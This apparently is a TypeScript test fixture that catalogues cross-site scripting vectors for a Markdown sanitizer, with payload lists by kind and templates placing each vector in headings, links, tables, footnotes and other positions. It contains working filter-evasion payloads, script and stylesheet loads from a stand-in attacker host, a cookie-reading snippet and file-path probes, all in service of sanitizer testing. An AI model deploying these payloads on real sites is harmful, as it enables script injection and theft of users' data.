/**
 * Ways in which a text tries to become more than text in a browser, written down by kind. Kinds after the OWASP cheat
 * sheet on filter evasion, html5sec.org, and what sanitizers test themselves with. Each calls `trap`.
 */
const call = "trap(1)";

/** Elements that load, run or take over by what they are. */
const elements = [
  `<script>${call}</script>`, `<SCRIPT>${call}</SCRIPT>`, `<script src="https://evil.example/x.js"></script>`, `<script\n>${call}</script\n>`, `<script/x>${call}</script>`, `<<script>${call}//<</script>`,
  `<script>${call}`, `<scr<script>ipt>${call}</scr</script>ipt>`, `<script type="module">${call}</script>`, `<noscript><p title="</noscript><img src=x onerror=${call}>">`, `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`, `<iframe/onload=${call}>`, `<object data="javascript:${call}"></object>`, `<object data="data:text/html,<script>${call}</script>"></object>`,
  `<embed src="javascript:${call}">`, `<embed src="https://evil.example/x.swf" allowscriptaccess=always>`, `<applet code=x></applet>`, `<form action="javascript:${call}"><button>x</button></form>`, `<form><button formaction="javascript:${call}">x`,
  `<isindex type=image src=1 onerror=${call}>`, `<base href="https://evil.example/">`, `<base href="javascript:${call}//">`, `<meta http-equiv="refresh" content="0;url=javascript:${call}">`, `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`, `<link rel=import href="data:text/html,x">`, `<link rel="preload" href="https://evil.example/x" as="image">`, `<link rel="dns-prefetch" href="//evil.example">`, `<style>@import "https://evil.example/x.css";</style>`,
  `<style>*{background:url(https://evil.example/x)}</style>`, `<style>body{display:none}</style>`, `</style><img src=x onerror=${call}>`, `<frameset onload=${call}><frame src="javascript:${call}"></frameset>`, `<bgsound src="javascript:${call}">`,
  `<layer src="https://evil.example/x"></layer>`, `<xml id=x><a><b>&lt;script>${call}&lt;/script></b></a></xml>`, `<template><script>${call}</script></template>`, `<portal src="https://evil.example/">`, `<dialog open>${call}</dialog>`, `<slot name=x>`,
  `<textarea><img src=x onerror=${call}></textarea>`, `</textarea><script>${call}</script>`, `<title><img src=x onerror=${call}></title>`, `</title><script>${call}</script>`, `<plaintext>`, `<xmp><script>${call}</script></xmp>`, `<listing>&lt;img src=x onerror=${call}&gt;</listing>`,
  `<marquee onstart=${call}>x</marquee>`, `<keygen autofocus onfocus=${call}>`, `<select autofocus onfocus=${call}>`, `<select><option><style></option></select><img src=x onerror=${call}></style>`,
];

/** Event handlers on elements, allowed ones too. */
const handlers = [
  ...["onerror", "onload", "onclick", "onmouseover", "onfocus", "onpointerenter", "onanimationstart", "ontoggle", "onbegin", "onwheel", "onbeforetoggle", "oncontentvisibilityautostatechange"].map((name) => `<img src=x ${name}=${call}>`),
  `<img src=x onerror="${call}">`, `<img src='x' onerror='${call}'>`, `<img src=x onerror=${call}//`, `<img src=x\nonerror=${call}>`, `<img src=x\tonerror\t=\t${call}>`, `<img/src=x/onerror=${call}>`, `<img src=x ONERROR=${call}>`, `<IMG """><img src=x onerror=${call}>">`,
  `<img src="x" alt="" onerror="&#116;rap(1)">`, `<img src=\`x\` onerror=${call}>`, `<img src=x:x onerror=${call}>`, `<img src="a" alt="&quot; onerror=${call} x=&quot;">`, `<img src="a" title="'><script>${call}</script>">`, `<img src="pic 1.gif" width="1 onload=${call}">`,
  `<img src="pic 1.gif" width="300&quot; onload=&quot;${call}">`, `<img src="pic 1.gif" style="position:fixed" class="x" id="main">`, `<img srcset="https://evil.example/x 1x" src="pic 1.gif">`, `<img lowsrc="javascript:${call}" dynsrc="javascript:${call}">`,
  `<details open ontoggle=${call}>`, `<details open><summary onclick=${call}>x</summary></details>`, `<mark onmouseover=${call}>x</mark>`, `<kbd style="background:url(javascript:${call})">x</kbd>`, `<sub/onclick=${call}>x</sub>`, `<br onclick=${call}>`, `<b onclick=${call}>x</b>`,
  `<body onload=${call}>`, `<html onclick=${call}>`, `<input autofocus onfocus=${call}>`, `<video src=x onerror=${call}>`, `<video><source onerror=${call}></video>`, `<audio src=x onerror=${call}>`, `<video poster="https://evil.example/p">`, `<a onmouseover=${call}>x</a>`,
  `<div onpointerover=${call} style="position:fixed;inset:0">x</div>`, `<x onclick=${call}>x</x>`, `<x contenteditable onblur=${call}>x</x>`, `<p/onclick=${call}>x`, `<custom-element onclick=${call}>`, `<a href="#" onclick="${call}">x</a>`, `<track onerror=${call}>`,
];

/** Foreign content, where names and parsing change. */
const foreign = [
  `<svg onload=${call}>`, `<svg><script>${call}</script></svg>`, `<svg><script href="data:,${call}"/></svg>`, `<svg><animate onbegin=${call} attributeName=x dur=1s>`, `<svg><set attributeName="href" to="javascript:${call}"/></svg>`,
  `<svg><a xlink:href="javascript:${call}"><text y="20">x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${call}</script></svg>#x"/></svg>`, `<svg><foreignObject><iframe src="javascript:${call}"></foreignObject></svg>`,
  `<svg><image href="https://evil.example/x"/></svg>`, `<svg><style>@import url(https://evil.example/x)</style></svg>`, `<svg><desc><![CDATA[</desc><script>${call}</script>]]></svg>`, `<svg></p><style><a id="</style><img src=1 onerror=${call}>">`,
  `<math href="javascript:${call}">x</math>`, `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`, `<math><mi//xlink:href="data:x,<script>${call}</script>">`, `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${call}">x</maction></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`, `<svg><p><style><g title="</style><img src=x onerror=${call}>">`, `<![CDATA[<script>${call}</script>]]>`, `<?xml-stylesheet href="javascript:${call}"?>`, `<!DOCTYPE x [<!ENTITY y "<script>${call}</script>">]><x>&y;</x>`,
  `<!--><script>${call}</script>-->`, `<!--[if gte IE 4]><script>${call}</script><![endif]-->`, `<!-- --!><img src=x onerror=${call}> -->`, `<!---><script>${call}</script>`, `--><script>${call}</script>`, `<! foo="><script>${call}</script>">`, `<comment><img src="</comment><img src=x onerror=${call}//">`,
  `<table background="javascript:${call}">`, `<td background="javascript:${call}">`, `<div style="width:expression(${call})">`, `<div style="background-image:url(javascript:${call})">`, `<p style="-moz-binding:url(https://evil.example/x#y)">`, `</main></body></html><script>${call}</script>`, `</p></li></ul><img src=x onerror=${call}>`,
];

/** Addresses that run, load or leave, whatever they are written in. */
export const addresses = [
  `javascript:${call}`, `JaVaScRiPt:${call}`, `javascript&colon;${call}`, `javascript&#58;${call}`, `javascript&#x3a;${call}`, `&#106;avascript:${call}`, `&#x6A;&#x61;vascript:${call}`, `&#0000106avascript:${call}`, `java&Tab;script:${call}`, `java&NewLine;script:${call}`, `java&#09;script:${call}`,
  `java\tscript:${call}`, `\u0001javascript:${call}`, `&#1;javascript:${call}`, `\u00a0javascript:${call}`, `\u2028javascript:${call}`, `%6Aavascript:${call}`, `javascript%3A${call}`, `javascript://evil.example/%0A${call}`, `javascript:/*--></title></style></textarea></script></xmp>*/${call}`, `javascript\\:${call}`,
  `\\javascript:${call}`, `vbscript:${call}`, `VBSCRIPT:msgbox(1)`, `livescript:${call}`, `mocha:${call}`, `data:text/html,<script>${call}</script>`, `data:text/html;base64,PHNjcmlwdD50cmFwKDEpPC9zY3JpcHQ+`, `DATA:text/html;charset=utf-8,x`, `data:image/svg+xml;base64,PHN2Zy8+`, `data:image/png;base64,AAAA`,
  `data:application/xhtml+xml,<x/>`, `data&colon;text/html,x`, `feed:javascript:${call}`, `view-source:javascript:${call}`, `jar:javascript:${call}!/`, `blob:https://evil.example/x`, `filesystem:https://evil.example/x`, `file:///etc/passwd`, `file://evil.example/share`, `//evil.example/x`, `\\\\evil.example\\share`,
  `///evil.example`, `/\\evil.example`, `smb://evil.example/share`, `ms-officecmd:x`, `obsidian://open?vault=x`, `about:blank`, `chrome://settings`, `intent://x#Intent;end`, `tel:${call}`, `urn:x`, `ws://evil.example`, `x-javascript:${call}`, `javascript:javascript:${call}`, `://evil.example`, `:javascript:${call}`,
  `../../../etc/passwd`, `#" onclick="${call}`, `#javascript:${call}`, `?javascript:${call}`, `https:javascript:${call}`, `mailto:`, `http:\\\\evil.example`, `https://`, `&lt;script&gt;`, `x" onerror="${call}`, `x' onerror='${call}`, `"><script>${call}</script>`,
];

/** Marks of Markdown that meet in ways nobody thought of. */
const markdown = [
  `[x](<javascript:${call}>)`, `[x](javascript:${call} "t")`, `[x][y]\n\n[y]: javascript:${call}`, `[y]\n\n[y]: <javascript:${call}> 'x'`, `<javascript:${call}>`, `![x](javascript:${call})`, `![x"onerror="${call}](x)`, `![](x "a\\" onerror=${call}")`, `[x](https://a.example "\\" onmouseover=\\"${call}")`,
  `[x](https://a.example/"onmouseover="${call})`, `[x](https://a.example/'onmouseover='${call})`, `[x](https://a.example/\`onmouseover=\`${call})`, `https://a.example/"onmouseover="${call}`, `<https://a.example/"onmouseover=${call}>`, `[a](javascript:window.onerror=${call};throw%201)`, `[notmalicious](javascript://%0d%0a${call})`,
  `![a](javascript:prompt(document.cookie))\\`, `[![x](javascript:${call})](javascript:${call})`, "```\"onclick=\"trap(1)\nx\n```", "``` <script>\nx\n```", "~~~ x class=y onclick=trap(1)\n~~~", `\`<script>${call}</script>\``, `    <script>${call}</script>`, `$<script>${call}</script>$`, `$$\n<script>${call}</script>\n$$`,
  "```mermaid\ngraph TD; A-->B; click A \"javascript:trap(1)\"\n```", `| <script>${call}</script> | x |\n| :-"onclick=trap(1) | - |`, `> [!NOTE"onclick=${call}]\n> x`, `> [!note] <script>${call}</script>\n> x`, `- [ ] <script>${call}</script>`, `- ["] x`, `1. <img src=x onerror=${call}>`, `[^x"onclick=${call}]\n\n[^x"onclick=${call}]: y`,
  `[^1]\n\n[^1]: <script>${call}</script>`, `# <img src=x onerror=${call}>`, `# "onclick="${call}`, `<mark><script>${call}</script></mark>`, `<details>\n<summary><script>${call}</script></summary>\n\n<img src=x onerror=${call}>\n\n</details>`, `<sub>\n\n<script>${call}</script>`, `**<img src=x onerror=${call}>**`,
  `<img src="pic 1.gif" alt="<script>${call}</script>">`, `<img src="javascript:${call}" src="pic 1.gif">`, `&lt;script&gt;${call}&lt;/script&gt;`, `&#60;script&#62;${call}&#60;/script&#62;`, `\\<script\\>${call}\\</script\\>`, `\u0000<script>${call}</script>`, `<\u0000script>${call}</script>`, `<scr\u0000ipt>${call}</script>`, `＜script＞${call}＜/script＞`, `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `<a\u0000 href="javascript:${call}">x</a>`, `<a href="javascript:${call}">x</a>`, `<a href="java\nscript:${call}">x</a>`, `<a href=javascript:${call}>x</a>`, `<a href="https://evil.example" ping="https://evil.example/p">x</a>`, `<q cite="javascript:${call}">x</q>`, `<area href="javascript:${call}">`, `{{constructor.constructor('${call}')()}}`, `\${${call}}`, `<%= ${call} %>`,
];

/** Everything that can stand as text. */
export const vectors: readonly string[] = [...elements, ...handlers, ...foreign, ...markdown];

/** Where a vector can stand in a note; each gets a number of its own, for names that may be there once. */
export const places: Readonly<Record<string, (vector: string, number: number) => string>> = {
  text: (vector) => `Before ${vector} after`,
  block: (vector) => `${vector}\n\nText behind`,
  heading: (vector) => `## ${vector}`,
  emphasis: (vector) => `**a ${vector} b** <mark>${vector}</mark>`,
  "link text": (vector) => `[${vector}](https://a.example)`,
  "link target": (vector) => `[x](${vector}) [y](<${vector}>) <${vector}>`,
  "link title": (vector) => `[x](https://a.example "${vector}") [y](https://a.example '${vector}')`,
  "reference link": (vector, number) => `[x][r${number}] ![x][r${number}]\n\n[r${number}]: ${vector} "${vector}"`,
  "image source": (vector) => `![x](${vector}) ![y](<${vector}>) <img src="${vector}">`,
  "image description": (vector) => `![${vector}](pic%201.gif "${vector}") <img src="pic 1.gif" alt="${vector}" title='${vector}' width="${vector}">`,
  "table cell": (vector) => `| ${vector} | b |\n| --- | --- |\n| a | ${vector} |`,
  "list and task": (vector) => `- ${vector}\n- [ ] ${vector}\n- [${vector}] x`,
  quote: (vector) => `> ${vector.replaceAll("\n", "\n> ")}`,
  alert: (vector) => `> [!${vector}] ${vector}\n> ${vector}`,
  footnote: (vector, number) => `a[^n${number}] b[^${vector}]\n\n[^n${number}]: ${vector}\n[^${vector}]: x`,
  code: (vector) => `\`${vector}\`\n\n\`\`\`${vector}\n${vector}\n\`\`\`\n\n    ${vector}`,
  math: (vector) => `$${vector}$\n\n$$\n${vector}\n$$`,
  details: (vector) => `<details>\n<summary>${vector}</summary>\n\n${vector}\n\n</details>`,
  comment: (vector) => `<!-- ${vector} -->\n\na <!-- ${vector} --> b`,
  frontmatter: (vector) => `---\ntitle: ${JSON.stringify(vector)}\n---\n\n${vector}`,
};
